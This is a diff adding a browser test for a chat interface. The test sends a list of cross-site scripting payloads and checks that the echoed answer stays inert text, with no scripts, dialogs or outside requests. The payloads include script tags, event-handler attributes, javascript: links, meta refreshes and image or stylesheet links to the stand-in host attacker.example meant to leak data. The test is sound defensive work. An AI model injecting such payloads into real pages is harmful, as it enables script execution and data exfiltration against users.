@@ -1,0 +1,65 @@
+/** What a model or a person writes is text: no script, no dialog, no request leaves the page (P25, S0-78). */
+import assert from "node:assert/strict";
+import { browserTest } from "./harness.ts";
+import { send, settled } from "./steps.ts";
+
+const ATTACKS = [
+  "<script>alert(1)</script>",
+  '<img src=x onerror="alert(1)">',
+  "<svg onload=alert(1)>",
+  "[click](javascript:alert(1))",
+  "[click](JaVaScRiPt:alert(1))",
+  "[click](data:text/html,<script>alert(1)</script>)",
+  "[click](vbscript:alert(1))",
+  "![pixel](https://attacker.example/leak?secret=1)",
+  '![x](https://attacker.example/a.png "onload=alert(1)")',
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<style>@import 'https://attacker.example/x.css'</style>",
+  "[ref]: https://attacker.example/ref\n\n![ref]",
+  "<a href='https://attacker.example' ping='https://attacker.example'>x</a>",
+  "```html\n<script>alert(1)</script>\n```",
+  "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
+  "<form action=https://attacker.example><input name=q autofocus onfocus=alert(1)>",
+];
+
+browserTest(
+  "S0-77 S0-78 P25 whatever is written stays text: no dialog, no script, no request to elsewhere",
+  async (bowl) => {
+    const id = await bowl.conversation({ Echo: "echo" });
+    const page = await bowl.open(`/c/${id}`);
+    const elsewhere: string[] = [];
+    const dialogs: string[] = [];
+    page.on("request", (request) => {
+      if (!request.url().startsWith(bowl.address)) elsewhere.push(request.url());
+    });
+    page.on("dialog", (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    await send(page, ATTACKS.join("\n\n"));
+    await settled(page, 1);
+    const answer = page.locator("article.theirs");
+    await answer.locator(".rich").waitFor();
+    assert.match(
+      await answer.innerText(),
+      /<script>alert\(1\)<\/script>/,
+      "the answer holds the attacks, as text",
+    );
+    const bad = await answer.evaluate((element) =>
+      [...element.querySelectorAll("*")].filter((one) =>
+        /^(script|img|iframe|style|object|embed|form|meta|link|base)$/i.test(one.tagName) ||
+        [...one.attributes].some(({ name }) => name.startsWith("on"))
+      ).map((one) => one.outerHTML)
+    );
+    assert.deepEqual(bad, []);
+    const links = await answer.locator("a").evaluateAll((all) =>
+      all.map((one) => [one.getAttribute("href"), one.getAttribute("rel")])
+    );
+    for (const [href, rel] of links) {
+      assert.match(href ?? "", /^(https?:|mailto:)/);
+      assert.equal(rel, "noopener noreferrer");
+    }
+    assert.deepEqual(dialogs, []);
+    assert.deepEqual(elsewhere, []);
+  },
+);
